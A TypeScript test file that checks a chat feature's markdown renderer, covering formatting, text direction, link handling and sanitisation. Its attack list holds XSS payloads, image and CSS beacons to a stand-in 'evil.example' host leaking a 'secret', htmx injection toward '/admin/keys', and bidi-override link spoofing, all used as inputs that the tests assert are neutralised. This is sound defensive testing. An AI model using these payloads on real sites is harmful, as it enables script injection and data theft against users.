import { describe, expect, test } from 'vitest';
import { answerEntry } from '../../functions/chat/ask/html.ts';
import { renderMarkdown } from '../../functions/chat/ask/render-markdown.ts';
import { source } from './chat-world.ts';
import { elementsOf } from './html-page.ts';

const kept = { conversationId: 'x', responseId: 'x' };
const render = (text: string) => renderMarkdown(text, [source]);

describe('markdown becomes HTML', () => {
  test.each([
    ['# Big', '<h3>Big</h3>'],
    ['**bold** and *soft*', '<p><strong>bold</strong> and <em>soft</em></p>'],
    ['- a\n- b', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>'],
    ['`a < b`', '<p><code>a &lt; b</code></p>'],
    ['3. c', '<ol start="3">\n<li>c</li>\n</ol>'],
    ['9~12 and 13~17, ~~£5~~ £4', '<p>9~12 and 13~17, <del>£5</del> £4</p>'],
    [
      '**注意：**请先登记。含**「重点」**内容',
      '<p><strong>注意：</strong>请先登记。含<strong>「重点」</strong>内容</p>',
    ],
    ['so \\(a_1 * b * c\\) < d', '<p>so \\(a_1 * b * c\\) &lt; d</p>'],
    ['\\[\na < b\n- c\n\\]\nholds', '<p>\\[\na &lt; b\n- c\n\\]</p>\n<p>holds</p>'],
    ['<b>Note</b> **closed**', '<p>&lt;b&gt;Note&lt;/b&gt; <strong>closed</strong></p>'],
    ['<div>\n*x*', '<p>&lt;div&gt;\n<em>x</em></p>'],
    ['- [x] sent\n- [ ] paid', '<ul>\n<li>☑ sent</li>\n<li>☐ paid</li>\n</ul>'],
  ])('%j', async (text, html) => {
    expect((await render(text)).trim().replaceAll(/ dir="(?:auto|ltr)"/g, '')).toBe(html);
  });

  test('tables and code blocks are kept', async () => {
    const html = await render('| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nif (a < b) x();\n```');
    expect(elementsOf(html).map(({ name }) => name)).toEqual(
      expect.arrayContaining(['table', 'thead', 'th', 'tbody', 'td', 'pre', 'code']),
    );
    expect(html).toContain('if (a &lt; b) x();');
  });
});

test('the outermost blocks take the direction of their words; code and addresses are read from the left', async () => {
  const html = await render(
    '# a\n\nb `c` [d](https://example.org/)\n\n- e\n\n  - f\n\n> g\n\n| h |\n|---|\n\n```\ni\n```',
  );
  const directions = elementsOf(html).map(({ name, attributes }) => [name, attributes['dir']]);
  expect(directions.filter(([name]) => !/^(?:li|a|thead|tr|th|tbody)$/.test(name ?? ''))).toEqual([
    ['h3', 'auto'],
    ['p', 'auto'],
    ['code', 'ltr'],
    ['span', 'ltr'],
    ['ul', 'auto'],
    ['p', undefined],
    ['ul', undefined],
    ['blockquote', 'auto'],
    ['p', undefined],
    ['table', 'auto'],
    ['pre', 'ltr'],
    ['code', 'ltr'],
  ]);
});

describe('links', () => {
  test('show the whole of where they lead, open apart and say nothing of the reader', async () => {
    expect(await render('[our bank](https://evil.example/login?a=1&b=2)')).toContain(
      '<a href="https://evil.example/login?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">our bank</a>' +
        ' <span class="address" dir="ltr">(https://evil.example/login?a=1&amp;b=2)</span>',
    );
    const deceiving = await render('[https://bank.example](https://evil.example/)');
    expect(deceiving).toContain('(https://evil.example/)');
    const bare = await render('See https://example.org/a.');
    expect(bare).toMatch(/<a href="https:\/\/example\.org\/a"[^>]*>https:\/\/example\.org\/a<\/a>\./);
    expect(bare).not.toContain('class="address"');
  });

  test('can not make the address beside them read backwards', async () => {
    const turned = '[\u202Emoc.elpmaxe\u2066](https://evil.example/)';
    const html = (await render(turned)) + answerEntry('', [{ ...source, title: '\u202Emoc.elpmaxe' }], kept);
    expect(html).toContain('moc.elpmaxe');
    expect(html).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
  });

  test('of other schemes are text', async () => {
    for (const href of [
      'javascript:alert(1)',
      'data:text/html,x',
      'vbscript:x',
      '//evil.example',
      'file:///etc',
    ]) {
      expect(
        elementsOf(await render(`[x](${href})`)).some(({ name }) => name === 'a'),
        href,
      ).toBe(false);
    }
  });

  test('of citations stand in a line that begins with a tag', async () => {
    const html = await render('<b>Hours</b> nine to five [1]');
    expect(elementsOf(html).find(({ name }) => name === 'a')).toMatchObject({ text: '[1]' });
  });

  test('end before full-width punctuation', async () => {
    expect(await render('https://example.org/a。次')).toContain('>https://example.org/a</a>。次');
  });

  test('of citations lead to the source, whatever the text says they are', async () => {
    const html = await render(
      'Nine [1], ten [2], `[1]`.\n\n[1]: https://evil.example\n[2]: https://evil.example',
    );
    const links = elementsOf(html).filter(({ name }) => name === 'a');
    expect(links[0]).toMatchObject({ text: '[1]', attributes: { href: source.url, title: source.title } });
    expect(html).toContain('<code dir="ltr">[1]</code>');
    const cited = links.filter(({ text }) => text === '[1]');
    expect(cited.map(({ attributes }) => attributes['href'])).toEqual([source.url, source.url]);
  });
});

describe('nothing of the text runs, loads or escapes', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://evil.example/pixel.gif?secret">',
    '![pixel](https://evil.example/pixel.gif?secret)',
    '![x][y]\n\n[y]: https://evil.example/pixel.gif',
    '<svg onload=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    '<input type="hidden" id="conversation_id" hx-swap-oob="true" value="theirs">',
    '<div hx-get="/admin/keys" hx-trigger="load"></div>',
    '</div></div><div id="app" hx-swap-oob="true">taken</div>',
    '<style>*{background:url(https://evil.example)}</style>',
    '[x](https://e.example/"onmouseover="alert(1))',
    '[x](<https://e.example/ "t\\" onmouseover=alert(1)>)',
    '`</code><script>alert(1)</script>`',
    '```html\n</code></pre><script>alert(1)</script>\n```',
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    '<<script>alert(1)//<</script>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<a\u0000href=javascript:alert(1)>x</a>',
    `${'> '.repeat(2_000)}deep`,
    '['.repeat(5_000),
  ];
  const known = new Set(
    'p br hr h3 strong em b i del code pre blockquote span a ul ol li table thead tbody tr th td abbr acronym'.split(
      ' ',
    ),
  );
  const harmless: Record<string, string[]> = {
    a: ['href', 'title', 'target', 'rel'],
    ol: ['start'],
    span: ['class'],
  };

  test.each(attacks.map(text => [text.slice(0, 80), text]))('%j', async (_, text) => {
    for (const { name, attributes } of elementsOf(await render(text))) {
      expect(known).toContain(name);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (attribute === 'dir') expect(value).toMatch(/^(?:auto|ltr)$/);
        else expect(harmless[name] ?? []).toContain(attribute);
        if (attribute === 'href') expect(value).toMatch(/^https?:\/\//);
      }
    }
  });

  test('HTML in the text is shown as it was written', async () => {
    expect(await render('Use <b onclick="x">this</b> tag.')).toBe(
      '<p dir="auto">Use &lt;b onclick="x"&gt;this&lt;/b&gt; tag.</p>\n',
    );
  });
});
